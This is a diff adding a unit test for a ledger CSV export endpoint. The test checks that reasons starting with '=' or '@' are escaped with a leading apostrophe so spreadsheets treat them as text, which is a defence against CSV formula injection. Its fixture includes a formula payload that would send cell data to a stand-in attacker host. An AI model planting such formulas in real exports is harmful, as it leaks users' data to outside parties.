@@ -108,4 +108,17 @@ describe('GET /api/user/ledger.csv', () => {
       ['free', '10.0', '10.0', 'Free tokens', '', ''],
     ]);
   });
+
+  it('opens operator-written reasons as text in a spreadsheet, amounts as numbers', async () => {
+    const { agent, user } = await verifiedUser(t);
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+    await post(user.id, { deltaTenths: -3, kind: 'adjustment', reason: formula });
+    await post(user.id, { deltaTenths: 1, kind: 'adjustment', reason: '@SUM(1+1)' });
+    const res = await agent.get('/api/user/ledger.csv').buffer(true).expect(200);
+    const rows = parse(res.text, { columns: true }) as Record<string, string>[];
+    expect(rows.slice(0, 2).map((r) => [r.amount, r.description])).toEqual([
+      ['0.1', "'@SUM(1+1)"],
+      ['-0.3', `'${formula}`],
+    ]);
+  });
 });
